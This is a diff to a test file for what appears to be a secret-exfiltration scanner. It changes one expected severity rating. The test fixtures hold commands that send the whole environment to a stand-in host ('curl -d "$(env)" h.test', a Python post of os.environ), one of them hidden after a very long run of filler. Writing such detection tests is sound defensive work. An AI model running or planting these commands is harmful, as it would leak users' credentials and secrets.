@@ -29,7 +29,7 @@ describe('the environment that is sent away', () => {
     ['by a command over lines', 'a.sh', ['curl h.test \\', ' -d \\', '  "$(env)"'], ['high 3']],
     ['by a later command', 'a.sh', ['all=$(env)', 'curl -d "$all" h.test'], ['medium 1']],
     ['far down a long line', 'a.js', [`${'x;'.repeat(9_000)}exec('curl -d "$(env)" h.test')`], ['high 1']],
-    ['in a test', 'test/a.py', ['x = dict(os.environ)', 'requests.post(h, json=x)'], ['low 1']],
+    ['in a test', 'test/a.py', ['x = dict(os.environ)', 'requests.post(h, json=x)'], ['medium 1']],
   ])('%s', (_what, path, lines, said) => expect(severities(path, ...lines)).toEqual(said));
 
   it('is not what was there before: neither moved lines nor lines of context speak', () => {
